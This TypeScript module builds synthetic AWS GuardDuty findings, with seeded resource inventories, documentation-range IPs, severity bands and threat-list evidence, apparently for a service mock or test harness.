/**
 * Builds wire-shaped findings (exactly what GetFindings puts in `findings[]`) for any finding type.
 * Every key is a wire name from the SDK model (guardduty-wire.md §5–§6): `productCodeId`,
 * `sourceIPs`, PascalCase `LoginAttributes` and `IamInstanceProfile`, epoch-second numbers for
 * Timestamp members and ISO strings for the String "timestamps".
 *
 * Resources come from a small per-account, per-region inventory (instances, users, buckets,
 * clusters...) so the same instance or access key shows up in several findings, the way a real
 * account's findings cluster around a few resources. The inventory is derived from the account
 * and region alone, never from the caller's generator, so it does not depend on call order.
 */
import {
  FINDING_TYPES,
  type FindingFamily,
  type FindingTypeInfo,
  findingTypeInfo,
  SEVERITY_BANDS,
  type SeverityBand,
  severityBandRange,
} from "./catalog.js";
import { createRng, type Rng } from "./random.js";
import type { WireFinding, WireService } from "./store.js";

export interface FindingContext {
  accountId: string;
  region: string;
  detectorId: string;
  type: string;
  id: string;
  /** ISO-8601 with milliseconds and `Z`. */
  createdAt: string;
  updatedAt: string;
  sample?: boolean;
}

type Json = Record<string, unknown>;
type Tag = { key: string; value: string };
type ResourceRole = "TARGET" | "ACTOR";

// ---------------------------------------------------------------------------------------------
// Small generators
// ---------------------------------------------------------------------------------------------

const UPPER_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

function upperAlnum(rng: Rng, length: number): string {
  let out = "";
  for (let i = 0; i < length; i++) out += UPPER_ALNUM[Math.floor(rng.next() * 32)];
  return out;
}

const HEX_CODES = [..."0123456789abcdef"].map((digit) => digit.charCodeAt(0));

/**
 * `length` lowercase hex characters, eight per draw. Built with one `fromCharCode` rather than
 * character by character: appending makes a chain of cons strings, and a world retains a few
 * hundred thousand ids and hashes, which then dominated its memory and garbage-collection time.
 */
export function hexId(rng: Rng, length: number): string {
  const codes = new Array<number>(length);
  for (let at = 0; at < length; at += 8) {
    const word = (rng.next() * 0x100000000) >>> 0;
    for (let digit = 0; digit < 8 && at + digit < length; digit++) {
      codes[at + digit] = HEX_CODES[(word >>> (28 - 4 * digit)) & 0xf] ?? 48;
    }
  }
  return String.fromCharCode(...codes);
}

/**
 * Resource details that many findings share (one instance, one bucket...) are built once per
 * inventory and frozen: a world holds tens of thousands of findings, and rebuilding the same
 * nested objects for each dominated its build time and garbage collection. Only `service`
 * members (archived, userFeedback) ever change after creation, and those are never shared.
 */
function deepFreeze<T>(value: T): T {
  if (value && typeof value === "object" && !Object.isFrozen(value)) {
    for (const child of Object.values(value)) deepFreeze(child);
    Object.freeze(value);
  }
  return value;
}

/**
 * Joins `parts` into one flat string. Template literals and `+` build cons-string trees that a
 * retained string keeps alive; for the strings every finding stores (ids, ARNs, timestamps,
 * titles) joining keeps the world's heap and garbage-collection time down.
 */
function flat(...parts: string[]): string {
  return parts.join("");
}

function awsId(rng: Rng, prefix: string): string {
  return flat(prefix, "-", hexId(rng, 17));
}

function uuid(rng: Rng): string {
  const h = hexId(rng, 32);
  return flat(
    h.slice(0, 8),
    "-",
    h.slice(8, 12),
    "-4",
    h.slice(13, 16),
    "-a",
    h.slice(17, 20),
    "-",
    h.slice(20),
  );
}

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

const dayPrefixes = new Map<number, string>();
const DAY_PREFIX_CACHE_LIMIT = 4096;

function pad(value: number, width: number): string {
  return String(value).padStart(width, "0");
}

/**
 * `Date#toISOString` (`2026-10-03T11:22:33.456Z`), with the date part cached per day: a world
 * formats four timestamps per finding and toISOString was a visible share of building one.
 */
export function isoAt(ms: number): string {
  const day = Math.floor(ms / DAY);
  let prefix = dayPrefixes.get(day);
  if (prefix === undefined) {
    if (dayPrefixes.size >= DAY_PREFIX_CACHE_LIMIT) dayPrefixes.clear();
    prefix = new Date(day * DAY).toISOString().slice(0, 11);
    dayPrefixes.set(day, prefix);
  }
  const inDay = ms - day * DAY;
  const hours = Math.floor(inDay / HOUR);
  const minutes = Math.floor((inDay % HOUR) / MINUTE);
  const seconds = Math.floor((inDay % MINUTE) / 1000);
  return flat(
    prefix,
    pad(hours, 2),
    ":",
    pad(minutes, 2),
    ":",
    pad(seconds, 2),
    ".",
    pad(inDay % 1000, 3),
    "Z",
  );
}

function epochSeconds(ms: number): number {
  return Math.floor(ms / 1000);
}

/** 32-bit FNV-1a: turns a text key (an account and region, a world part) into a seed. */
export function hashSeed(text: string): number {
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    hash ^= text.charCodeAt(i);
    hash = Math.imul(hash, 0x01000193);
  }
  return hash >>> 0;
}

function privateIp(rng: Rng): string {
  return rng.chance(0.5)
    ? `10.0.${rng.int(0, 255)}.${rng.int(4, 254)}`
    : `172.31.${rng.int(0, 255)}.${rng.int(4, 254)}`;
}

/** Documentation ranges (RFC 5737): realistic-looking but never a real party's address. */
const PUBLIC_PREFIXES = ["198.51.100", "203.0.113", "192.0.2"] as const;

function publicIp(rng: Rng): string {
  return `${rng.pick(PUBLIC_PREFIXES)}.${rng.int(1, 254)}`;
}

function privateDnsName(ip: string, region: string): string {
  const host = `ip-${ip.replaceAll(".", "-")}`;
  return region === "us-east-1" ? `${host}.ec2.internal` : `${host}.${region}.compute.internal`;
}

function publicDnsName(ip: string, region: string): string {
  const host = `ec2-${ip.replaceAll(".", "-")}`;
  return region === "us-east-1"
    ? `${host}.compute-1.amazonaws.com`
    : `${host}.${region}.compute.amazonaws.com`;
}

// ---------------------------------------------------------------------------------------------
// Remote parties
// ---------------------------------------------------------------------------------------------

interface Geo {
  /** Frozen `city`, `country`, `geoLocation` and `organization` members, shared by every finding. */
  shared: Json;
  city: string;
  countryCode: string;
  countryName: string;
  lat: number;
  lon: number;
  asn: string;
  asnOrg: string;
  isp: string;
  org: string;
}

const GEOS: readonly Geo[] = [
  geo("Amsterdam", "NL", "Netherlands", 52.374, 4.8897, "60781", "LeaseWeb Netherlands B.V."),
  geo("Frankfurt am Main", "DE", "Germany", 50.1155, 8.6842, "24940", "Hetzner Online GmbH"),
  geo("Moscow", "RU", "Russia", 55.7527, 37.6172, "49505", "Selectel"),
  geo("Sao Paulo", "BR", "Brazil", -23.5335, -46.6359, "28573", "Claro NXT Telecomunicacoes"),
  geo("Singapore", "SG", "Singapore", 1.2929, 103.8547, "14061", "DigitalOcean, LLC"),
  geo("Ashburn", "US", "United States", 39.0469, -77.4903, "14618", "Amazon.com, Inc."),
  geo("Los Angeles", "US", "United States", 34.0544, -118.244, "20473", "The Constant Company"),
  geo("Beijing", "CN", "China", 39.9075, 116.3972, "4808", "China Unicom Beijing"),
  geo("Bucharest", "RO", "Romania", 44.4323, 26.1063, "9009", "M247 Europe SRL"),
  geo("Seoul", "KR", "South Korea", 37.566, 126.9784, "4766", "Korea Telecom"),
  geo("Kyiv", "UA", "Ukraine", 50.4547, 30.5238, "15497", "Colocall Ltd."),
  geo("Lagos", "NG", "Nigeria", 6.4541, 3.3947, "37148", "Globacom Limited"),
];

function geo(
  city: string,
  countryCode: string,
  countryName: string,
  lat: number,
  lon: number,
  asn: string,
  asnOrg: string,
): Geo {
  const shared = deepFreeze({
    city: { cityName: city },
    country: { countryCode, countryName },
    geoLocation: { lat, lon },
    organization: { asn, asnOrg, isp: asnOrg, org: asnOrg },
  });
  return {
    shared,
    city,
    countryCode,
    countryName,
    lat,
    lon,
    asn,
    asnOrg,
    isp: asnOrg,
    org: asnOrg,
  };
}

interface Remote {
  ip: string;
  geo: Geo;
  /** The frozen `remoteIpDetails` of this address. */
  details: Json;
}

function makeRemote(rng: Rng): Remote {
  const ip = publicIp(rng);
  const geo = rng.pick(GEOS);
  return { ip, geo, details: deepFreeze(buildRemoteIpDetails(ip, geo)) };
}

/** A remote party from the account's inventory: the same attackers come back again and again. */
function remote(scene: Scene): Remote {
  return scene.rng.pick(scene.inventory.remotes);
}

function remoteIpDetails(peer: Remote): Json {
  return peer.details;
}

function buildRemoteIpDetails(ip: string, g: Geo): Json {
  const shared = g.shared;
  return {
    city: shared.city,
    country: shared.country,
    geoLocation: shared.geoLocation,
    ipAddressV4: ip,
    organization: shared.organization,
  };
}

// ---------------------------------------------------------------------------------------------
// Per-account inventory
// ---------------------------------------------------------------------------------------------

interface InstanceSpec {
  instanceId: string;
  imageId: string;
  imageDescription: string;
  instanceType: string;
  platform?: string;
  availabilityZone: string;
  profileName: string;
  profileId: string;
  networkInterfaceId: string;
  privateIp: string;
  publicIp?: string;
  ipv6?: string;
  securityGroups: { groupId: string; groupName: string }[];
  subnetId: string;
  vpcId: string;
  launchMs: number;
  tags: Tag[];
  productCode?: { productCodeId: string; productCodeType: string };
  outpostArn?: string;
}

interface UserSpec {
  userName: string;
  userType: string;
  principalId: string;
  accessKeyId: string;
}

interface BucketSpec {
  name: string;
  createdSec: number;
  ownerId: string;
  kmsKeyArn?: string;
  tags: Tag[];
}

interface EksSpec {
  name: string;
  arn: string;
  vpcId: string;
  createdSec: number;
  tags: Tag[];
}

interface EcsSpec {
  name: string;
  arn: string;
  tags: Tag[];
  activeServicesCount: number;
  registeredContainerInstancesCount: number;
  runningTasksCount: number;
}

interface LambdaSpec {
  functionName: string;
  functionArn: string;
  description: string;
  role: string;
  vpcId: string;
  subnetIds: string[];
  securityGroup: { groupId: string; groupName: string };
  lastModifiedSec: number;
  revisionId: string;
  tags: Tag[];
}

interface DbSpec {
  dbInstanceIdentifier: string;
  dbClusterIdentifier: string;
  engine: string;
  engineVersion: string;
  dbInstanceArn: string;
  dbiResourceId: string;
  tags: Tag[];
}

interface Inventory {
  accountId: string;
  region: string;
  vpcId: string;
  instances: InstanceSpec[];
  users: UserSpec[];
  buckets: BucketSpec[];
  eksClusters: EksSpec[];
  ecsClusters: EcsSpec[];
  lambdas: LambdaSpec[];
  databases: DbSpec[];
  remotes: Remote[];
}

/** Inventories are pure functions of (account, region); caching them only saves time. */
const inventories = new Map<string, Inventory>();
const INVENTORY_CACHE_LIMIT = 512;

function inventoryFor(accountId: string, region: string): Inventory {
  const key = `${accountId}/${region}`;
  const cached = inventories.get(key);
  if (cached) return cached;
  if (inventories.size >= INVENTORY_CACHE_LIMIT) inventories.clear();
  const inventory = buildInventory(createRng(hashSeed(key)), accountId, region);
  inventories.set(key, inventory);
  return inventory;
}

// The inventory's clock: resources predate every finding of the seeded world.
const INVENTORY_EPOCH = Date.parse("2026-01-01T00:00:00.000Z");

function buildInventory(rng: Rng, accountId: string, region: string): Inventory {
  const vpcId = awsId(rng, "vpc");
  return {
    accountId,
    region,
    vpcId,
    instances: times(24, () => instanceSpec(rng, accountId, region, vpcId)),
    users: times(12, (i) => userSpec(rng, accountId, i)),
    buckets: times(10, () => bucketSpec(rng, accountId, region)),
    // Clusters, functions and databases are named after distinct apps so that no two share an ARN.
    eksClusters: distinctApps(rng, 3).map((app) => eksSpec(rng, app, accountId, region, vpcId)),
    ecsClusters: distinctApps(rng, 2).map((app) => ecsSpec(rng, app, accountId, region)),
    lambdas: distinctApps(rng, 6).map((app) => lambdaSpec(rng, app, accountId, region, vpcId)),
    databases: distinctApps(rng, 4).map((app) => dbSpec(rng, app, accountId, region)),
    remotes: times(40, () => makeRemote(rng)),
  };
}

function distinctApps(rng: Rng, count: number): string[] {
  const pool = [...APPS];
  const picked: string[] = [];
  while (picked.length < count && pool.length > 0) {
    picked.push(...pool.splice(rng.int(0, pool.length - 1), 1));
  }
  return picked;
}

function times<T>(count: number, make: (index: number) => T): T[] {
  const out: T[] = [];
  for (let i = 0; i < count; i++) out.push(make(i));
  return out;
}

const IMAGES = [
  { description: "Amazon Linux 2023 AMI 2023.5.20240805.0 x86_64 HVM kernel-6.1" },
  { description: "Canonical, Ubuntu, 22.04 LTS, amd64 jammy image build on 2024-07-01" },
  { description: "Canonical, Ubuntu, 24.04 LTS, arm64 noble image build on 2024-09-12" },
  { description: "Microsoft Windows Server 2022 Full Locale English AMI", platform: "windows" },
  { description: "Red Hat Enterprise Linux 9 (HVM), SSD Volume Type" },
  { description: "Amazon EKS optimized Amazon Linux 2 node AMI v1.29" },
] as const;

const INSTANCE_TYPES = [
  "t3.micro",
  "t3.large",
  "m6i.xlarge",
  "c6g.2xlarge",
  "r5.large",
  "m7g.large",
];
const APPS = ["billing", "checkout", "search", "ingest", "reporting", "auth", "web", "batch"];
const ENVIRONMENTS = ["prod", "staging", "dev"];

function instanceSpec(rng: Rng, accountId: string, region: string, vpcId: string): InstanceSpec {
  const image = rng.pick(IMAGES);
  const app = rng.pick(APPS);
  const ip = privateIp(rng);
  const spec: InstanceSpec = {
    instanceId: awsId(rng, "i"),
    imageId: awsId(rng, "ami"),
    imageDescription: image.description,
    instanceType: rng.pick(INSTANCE_TYPES),
    availabilityZone: `${region}${rng.pick(["a", "b", "c"])}`,
    profileName: `${app}-instance-profile`,
    profileId: `AIPA${upperAlnum(rng, 17)}`,
    networkInterfaceId: awsId(rng, "eni"),
    privateIp: ip,
    securityGroups: [{ groupId: awsId(rng, "sg"), groupName: `${app}-sg` }],
    subnetId: awsId(rng, "subnet"),
    vpcId,
    launchMs: INVENTORY_EPOCH - rng.int(1, 400) * DAY + rng.int(0, DAY - 1),
    tags: [
      { key: "Name", value: `${app}-${rng.int(1, 9)}` },
      { key: "Environment", value: rng.pick(ENVIRONMENTS) },
    ],
  };
  if ("platform" in image) spec.platform = image.platform;
  if (rng.chance(0.6)) spec.publicIp = publicIp(rng);
  if (rng.chance(0.2)) spec.ipv6 = `2600:1f18:${hexId(rng, 4)}:${hexId(rng, 4)}::${hexId(rng, 4)}`;
  if (rng.chance(0.3)) {
    spec.productCode = {
      productCodeId: upperAlnum(rng, 25).toLowerCase(),
      productCodeType: "marketplace",
    };
  }
  if (rng.chance(0.05)) {
    spec.outpostArn = `arn:aws:outposts:${region}:${accountId}:outpost/op-${hexId(rng, 17)}`;
  }
  return spec;
}

const USER_NAMES = ["alice", "bob", "ci-deployer", "data-pipeline", "ops-admin", "terraform"];
const ROLE_NAMES = ["OrganizationAccountAccessRole", "DevOpsRole", "ReadOnlyAuditor", "LambdaExec"];

function userSpec(rng: Rng, accountId: string, index: number): UserSpec {
  // Index 0 is the root user so root-credential findings always have one to point at.
  if (index === 0) {
    return {
      userName: "Root",
      userType: "Root",
      principalId: accountId,
      accessKeyId: `ASIA${upperAlnum(rng, 16)}`,
    };
  }
  if (rng.chance(0.35)) {
    const role = rng.pick(ROLE_NAMES);
    return {
      userName: role,
      userType: "AssumedRole",
      principalId: `AROA${upperAlnum(rng, 17)}:${rng.pick(USER_NAMES)}-session`,
      accessKeyId: `ASIA${upperAlnum(rng, 16)}`,
    };
  }
  return {
    userName: `${rng.pick(USER_NAMES)}${rng.int(1, 99)}`,
    userType: "IAMUser",
    principalId: `AIDA${upperAlnum(rng, 17)}`,
    accessKeyId: `AKIA${upperAlnum(rng, 16)}`,
  };
}

function bucketSpec(rng: Rng, accountId: string, region: string): BucketSpec {
  const spec: BucketSpec = {
    name: `${rng.pick(APPS)}-${rng.pick(["logs", "data", "backups", "artifacts", "exports"])}-${accountId.slice(-4)}-${hexId(rng, 4)}`,
    createdSec: epochSeconds(INVENTORY_EPOCH - rng.int(30, 900) * DAY),
    ownerId: hexId(rng, 64),
    tags: [{ key: "DataClassification", value: rng.pick(["internal", "confidential", "public"]) }],
  };
  if (rng.chance(0.5)) spec.kmsKeyArn = `arn:aws:kms:${region}:${accountId}:key/${uuid(rng)}`;
  return spec;
}

function eksSpec(rng: Rng, app: string, accountId: string, region: string, vpcId: string): EksSpec {
  const name = `${rng.pick(ENVIRONMENTS)}-${app}-eks`;
  return {
    name,
    arn: `arn:aws:eks:${region}:${accountId}:cluster/${name}`,
    vpcId,
    createdSec: epochSeconds(INVENTORY_EPOCH - rng.int(30, 600) * DAY),
    tags: [{ key: "Team", value: rng.pick(["platform", "payments", "data"]) }],
  };
}

function ecsSpec(rng: Rng, app: string, accountId: string, region: string): EcsSpec {
  const name = `${app}-cluster`;
  return {
    name,
    arn: `arn:aws:ecs:${region}:${accountId}:cluster/${name}`,
    tags: [{ key: "Environment", value: rng.pick(ENVIRONMENTS) }],
    activeServicesCount: rng.int(1, 12),
    registeredContainerInstancesCount: rng.int(0, 8),
    runningTasksCount: rng.int(1, 40),
  };
}

function lambdaSpec(
  rng: Rng,
  app: string,
  accountId: string,
  region: string,
  vpcId: string,
): LambdaSpec {
  const functionName = `${app}-${rng.pick(["handler", "worker", "cron", "webhook"])}`;
  return {
    functionName,
    functionArn: `arn:aws:lambda:${region}:${accountId}:function:${functionName}`,
    description: `${app} service function`,
    role: `arn:aws:iam::${accountId}:role/${functionName}-role`,
    vpcId,
    subnetIds: [awsId(rng, "subnet"), awsId(rng, "subnet")],
    securityGroup: { groupId: awsId(rng, "sg"), groupName: `${functionName}-sg` },
    lastModifiedSec: epochSeconds(INVENTORY_EPOCH - rng.int(1, 200) * DAY),
    revisionId: uuid(rng),
    tags: [{ key: "Service", value: app }],
  };
}

const DB_ENGINES = [
  { engine: "aurora-mysql", version: "8.0.mysql_aurora.3.05.2" },
  { engine: "aurora-postgresql", version: "15.4" },
  { engine: "mysql", version: "8.0.35" },
  { engine: "postgres", version: "16.1" },
] as const;

function dbSpec(rng: Rng, app: string, accountId: string, region: string): DbSpec {
  const { engine, version } = rng.pick(DB_ENGINES);
  const cluster = `${app}-db`;
  const id = `${cluster}-instance-${rng.int(1, 3)}`;
  return {
    dbInstanceIdentifier: id,
    dbClusterIdentifier: cluster,
    engine,
    engineVersion: version,
    dbInstanceArn: `arn:aws:rds:${region}:${accountId}:db:${id}`,
    dbiResourceId: `db-${upperAlnum(rng, 26)}`,
    tags: [{ key: "Owner", value: "dba" }],
  };
}

// ---------------------------------------------------------------------------------------------
// Resource shapes
// ---------------------------------------------------------------------------------------------

function buildInstanceDetails(spec: InstanceSpec, region: string, accountId: string): Json {
  const networkInterface: Json = {
    ipv6Addresses: spec.ipv6 ? [spec.ipv6] : [],
    networkInterfaceId: spec.networkInterfaceId,
    privateDnsName: privateDnsName(spec.privateIp, region),
    privateIpAddress: spec.privateIp,
    privateIpAddresses: [
      { privateDnsName: privateDnsName(spec.privateIp, region), privateIpAddress: spec.privateIp },
    ],
    securityGroups: spec.securityGroups.map((group) => ({ ...group })),
    subnetId: spec.subnetId,
    vpcId: spec.vpcId,
  };
  if (spec.publicIp) {
    networkInterface.publicDnsName = publicDnsName(spec.publicIp, region);
    networkInterface.publicIp = spec.publicIp;
  }
  const details: Json = {
    availabilityZone: spec.availabilityZone,
    iamInstanceProfile: {
      arn: `arn:aws:iam::${accountId}:instance-profile/${spec.profileName}`,
      id: spec.profileId,
    },
    imageDescription: spec.imageDescription,
    imageId: spec.imageId,
    instanceId: spec.instanceId,
    instanceState: "running",
    instanceType: spec.instanceType,
    launchTime: isoAt(spec.launchMs),
    networkInterfaces: [networkInterface],
    productCodes: spec.productCode ? [{ ...spec.productCode }] : [],
    tags: copyTags(spec.tags),
  };
  if (spec.platform) details.platform = spec.platform;
  if (spec.outpostArn) details.outpostArn = spec.outpostArn;
  return details;
}

const sharedDetails = new WeakMap<object, Map<string, Json>>();

/** The frozen details built for `owner` (an inventory entry) in one `variant`, built once. */
function shared(owner: object, variant: string, build: () => Json): Json {
  let variants = sharedDetails.get(owner);
  if (!variants) {
    variants = new Map();
    sharedDetails.set(owner, variants);
  }
  let details = variants.get(variant);
  if (!details) {
    details = deepFreeze(build());
    variants.set(variant, details);
  }
  return details;
}

function instanceDetails(spec: InstanceSpec, region: string, accountId: string): Json {
  return shared(spec, "", () => buildInstanceDetails(spec, region, accountId));
}

function accessKeyDetails(user: UserSpec): Json {
  return shared(user, "", () => buildAccessKeyDetails(user));
}

function s3BucketDetail(spec: BucketSpec, exposure: BucketExposure): Json {
  const variant = `${exposure.publicRead}/${exposure.publicWrite}/${exposure.bucketBlock}/${exposure.accountBlock}`;
  return shared(spec, variant, () => buildS3BucketDetail(spec, exposure));
}

function eksClusterDetails(spec: EksSpec): Json {
  return shared(spec, "", () => buildEksClusterDetails(spec));
}

function lambdaDetails(spec: LambdaSpec): Json {
  return shared(spec, "", () => buildLambdaDetails(spec));
}

function rdsDbInstanceDetails(spec: DbSpec): Json {
  return shared(spec, "", () => buildRdsDbInstanceDetails(spec));
}

function copyTags(tags: readonly Tag[]): Tag[] {
  return tags.map((tag) => ({ key: tag.key, value: tag.value }));
}

function buildAccessKeyDetails(user: UserSpec): Json {
  return {
    accessKeyId: user.accessKeyId,
    principalId: user.principalId,
    userName: user.userName,
    userType: user.userType,
  };
}

function blockPublicAccess(blocked: boolean): Json {
  return {
    ignorePublicAcls: blocked,
    restrictPublicBuckets: blocked,
    blockPublicAcls: blocked,
    blockPublicPolicy: blocked,
  };
}

interface BucketExposure {
  publicRead: boolean;
  publicWrite: boolean;
  bucketBlock: boolean;
  accountBlock: boolean;
}

function buildS3BucketDetail(spec: BucketSpec, exposure: BucketExposure): Json {
  const isPublic = exposure.publicRead || exposure.publicWrite;
  return {
    arn: `arn:aws:s3:::${spec.name}`,
    name: spec.name,
    type: "Destination",
    createdAt: spec.createdSec,
    owner: { id: spec.ownerId },
    tags: copyTags(spec.tags),
    defaultServerSideEncryption: spec.kmsKeyArn
      ? { encryptionType: "aws:kms", kmsMasterKeyArn: spec.kmsKeyArn }
      : { encryptionType: "AES256" },
    publicAccess: {
      permissionConfiguration: {
        bucketLevelPermissions: {
          accessControlList: {
            allowsPublicReadAccess: exposure.publicRead,
            allowsPublicWriteAccess: false,
          },
          bucketPolicy: {
            allowsPublicReadAccess: exposure.publicRead,
            allowsPublicWriteAccess: exposure.publicWrite,
          },
          blockPublicAccess: blockPublicAccess(exposure.bucketBlock),
        },
        accountLevelPermissions: { blockPublicAccess: blockPublicAccess(exposure.accountBlock) },
      },
      effectivePermission: isPublic ? "PUBLIC" : "NOT_PUBLIC",
    },
  };
}

function buildEksClusterDetails(spec: EksSpec): Json {
  return {
    name: spec.name,
    arn: spec.arn,
    vpcId: spec.vpcId,
    status: "ACTIVE",
    tags: copyTags(spec.tags),
    createdAt: spec.createdSec,
  };
}

const CONTAINER_IMAGES = [
  "public.ecr.aws/nginx/nginx:1.25",
  "docker.io/library/alpine:3.19",
  "docker.io/library/python:3.12-slim",
  "123456789012.dkr.ecr.us-east-1.amazonaws.com/app/api:2024.10.1",
  "docker.io/kalilinux/kali-rolling:latest",
  "quay.io/prometheus/node-exporter:v1.7.0",
] as const;

interface ContainerOptions {
  privileged: boolean;
  mount?: { name: string; path: string };
}

function container(rng: Rng, options: ContainerOptions): Json {
  const image = rng.pick(CONTAINER_IMAGES);
  const imagePrefix = image.slice(0, image.indexOf("/"));
  return {
    containerRuntime: rng.pick(["containerd", "docker"]),
    id: hexId(rng, 64),
    name: image.slice(image.lastIndexOf("/") + 1, image.indexOf(":", image.lastIndexOf("/"))),
    image,
    imagePrefix,
    volumeMounts: options.mount
      ? [{ name: options.mount.name, mountPath: options.mount.path }]
      : [],
    securityContext: {
      privileged: options.privileged,
      allowPrivilegeEscalation: options.privileged || rng.chance(0.2),
    },
  };
}

function ecsClusterDetails(rng: Rng, spec: EcsSpec, nowMs: number, task: Json): Json {
  const createdMs = nowMs - rng.int(1, 72) * HOUR;
  return {
    name: spec.name,
    arn: spec.arn,
    status: "ACTIVE",
    activeServicesCount: spec.activeServicesCount,
    registeredContainerInstancesCount: spec.registeredContainerInstancesCount,
    runningTasksCount: spec.runningTasksCount,
    tags: copyTags(spec.tags),
    taskDetails: {
      arn: `${spec.arn.replace(":cluster/", ":task/")}/${hexId(rng, 32)}`,
      definitionArn: `${spec.arn.replace(/:cluster\/.*/, ":task-definition/")}${spec.name}-task:${rng.int(1, 40)}`,
      version: String(rng.int(1, 40)),
      // EcsTaskDetails.TaskCreatedAt is bound to the wire key `createdAt` (guardduty-wire.md §5).
      createdAt: epochSeconds(createdMs),
      startedAt: epochSeconds(createdMs + rng.int(5, 90) * 1000),
      startedBy: rng.pick([`ecs-svc/${hexId(rng, 19)}`, "events-rule/nightly-batch"]),
      tags: [],
      volumes: [],
      containers: [task],
      group: `service:${spec.name.replace("-cluster", "")}`,
      launchType: rng.pick(["FARGATE", "EC2"]),
    },
  };
}

function buildLambdaDetails(spec: LambdaSpec): Json {
  return {
    functionArn: spec.functionArn,
    functionName: spec.functionName,
    description: spec.description,
    lastModifiedAt: spec.lastModifiedSec,
    revisionId: spec.revisionId,
    functionVersion: "$LATEST",
    role: spec.role,
    vpcConfig: {
      subnetIds: [...spec.subnetIds],
      vpcId: spec.vpcId,
      securityGroups: [{ ...spec.securityGroup }],
    },
    tags: copyTags(spec.tags),
  };
}

function buildRdsDbInstanceDetails(spec: DbSpec): Json {
  return {
    dbInstanceIdentifier: spec.dbInstanceIdentifier,
    engine: spec.engine,
    engineVersion: spec.engineVersion,
    dbClusterIdentifier: spec.dbClusterIdentifier,
    dbInstanceArn: spec.dbInstanceArn,
    dbiResourceId: spec.dbiResourceId,
    tags: copyTags(spec.tags),
  };
}

// ---------------------------------------------------------------------------------------------
// Type name anatomy: ThreatPurpose:ResourceTypeAffected/ThreatFamilyName.DetectionMechanism!Artifact
// ---------------------------------------------------------------------------------------------

function threatFamilyName(type: string): string {
  const name = type.slice(type.indexOf("/") + 1);
  const end = name.search(/[.!]/);
  return end === -1 ? name : name.slice(0, end);
}

function threatPurpose(type: string): string {
  return type.slice(0, type.indexOf(":"));
}

const THREAT_LIST_PATTERN =
  /MaliciousIPCaller|TorIPCaller|TorClient|TorRelay|C&CActivity|BitcoinTool|BlackholeTraffic|DropPoint|DGADomainRequest|DriveBySourceTraffic|PhishingDomainRequest|MaliciousDomainRequest|Spambot/;
const DNS_PATTERN = /!DNS|DomainRequest|DNSDataExfiltration|MetadataDNSRebind/;
const RUNTIME_NETWORK_PATTERN =
  /C&CActivity|BitcoinTool|BlackholeTraffic|DropPoint|TorClient|TorRelay/;

const AFFECTED_FAMILY: Record<string, FindingFamily> = {
  EC2: "EC2",
  IAMUser: "IAM",
  S3: "S3",
  Kubernetes: "Kubernetes",
  Runtime: "Runtime",
  RDS: "RDS",
  Lambda: "Lambda",
};

/** Types outside the catalog (callers may pass any string) borrow the shape of their family. */
function resolveTypeInfo(type: string): FindingTypeInfo {
  const known = findingTypeInfo(type);
  if (known) return known;
  const affected = type.slice(type.indexOf(":") + 1, type.indexOf("/"));
  const family = AFFECTED_FAMILY[affected] ?? "EC2";
  const template = FINDING_TYPES.find((info) => info.family === family) ?? FINDING_TYPES[0];
  if (!template) throw new Error("the finding-type catalog is empty");
  return { ...template, type, severity: "Medium", defaultBand: "Medium" };
}

// ---------------------------------------------------------------------------------------------
// Severity
// ---------------------------------------------------------------------------------------------

/**
 * Most findings carry the band's typical value (2.0/5.0/8.0/9.0, as real `countBySeverity` keys
 * show); variable types may drift one band either way, but never into Critical, which only
 * attack sequences reach.
 */
export function severityFor(rng: Rng, info: FindingTypeInfo): number {
  const band =
    info.severity === "Variable" ? variableBand(rng, info.defaultBand) : info.defaultBand;
  const range = severityBandRange(band);
  if (rng.chance(0.8)) return range.typical;
  return rng.int(Math.round(range.min * 10), Math.round(range.max * 10)) / 10;
}

function variableBand(rng: Rng, base: SeverityBand): SeverityBand {
  const index = SEVERITY_BANDS.findIndex((range) => range.band === base);
  const roll = rng.next();
  const shifted = roll < 0.6 ? index : roll < 0.8 ? index - 1 : index + 1;
  const highestNonCritical = SEVERITY_BANDS.findIndex((range) => range.band === "High");
  const clamped = Math.min(Math.max(shifted, 0), Math.max(highestNonCritical, index));
  return SEVERITY_BANDS[clamped]?.band ?? base;
}

// ---------------------------------------------------------------------------------------------
// Family builders
// ---------------------------------------------------------------------------------------------

interface Scene {
  rng: Rng;
  info: FindingTypeInfo;
  ctx: FindingContext;
  inventory: Inventory;
  createdMs: number;
  updatedMs: number;
}

interface Parts {
  resource: WireFinding["resource"];
  action?: Json;
  resourceRole: ResourceRole;
  /** Extra `service` members: evidence, runtimeDetails, ebsVolumeScanDetails, detection... */
  service: Json;
  /** Members of the `additionalInfo.value` JSON text. */
  additional: Json;
  /** How titles and descriptions name the affected resource. */
  subject: string;
  /** The remote party (IP, domain or principal), when there is one. */
  peer?: string;
}

const THREAT_LISTS = ["ProofPoint", "CrowdStrike", "Amazon", "Emerging Threats", "abuse.ch"];
const CUSTOM_THREAT_LISTS = ["SecOpsBlocklist", "PartnerThreatIntel", "IncidentIOCs"];
const THREAT_NAMES: Record<string, readonly string[]> = {
  "C&CActivity": ["Cobalt Strike", "Sliver C2", "Mirai"],
  BitcoinTool: ["CoinMiner", "XMRig pool"],
  BlackholeTraffic: ["Sinkholed host"],
  DropPoint: ["Credential drop point"],
  DGADomainRequest: ["DGA domain"],
  DriveBySourceTraffic: ["Exploit kit"],
  PhishingDomainRequest: ["Phishing"],
  Spambot: ["Spam relay"],
  TorIPCaller: ["Tor exit node"],
  TorClient: ["Tor entry node"],
  TorRelay: ["Tor relay"],
};

const evidenceCache = new Map<string, Json>();

function evidenceFor(threatListName: string, threatName: string): Json {
  const key = `${threatListName}\n${threatName}`;
  let evidence = evidenceCache.get(key);
  if (!evidence) {
    evidence = deepFreeze({
      threatIntelligenceDetails: [{ threatListName, threatNames: [threatName] }],
    });
    evidenceCache.set(key, evidence);
  }
  return evidence;
}

/** `service.evidence` and the threat-list name GuardDuty also writes into additionalInfo. */
function threatEvidence(scene: Scene, parts: Parts): void {
  const { rng, info } = scene;
  if (!THREAT_LIST_PATTERN.test(info.type)) return;
  const threatListName = info.type.includes(".Custom")
    ? rng.pick(CUSTOM_THREAT_LISTS)
    : rng.pick(THREAT_LISTS);
  const names = THREAT_NAMES[threatFamilyName(info.type)] ?? ["Malicious IP"];
  parts.service.evidence = evidenceFor(threatListName, rng.pick(names));
  parts.additional.threatListName = threatListName;
}

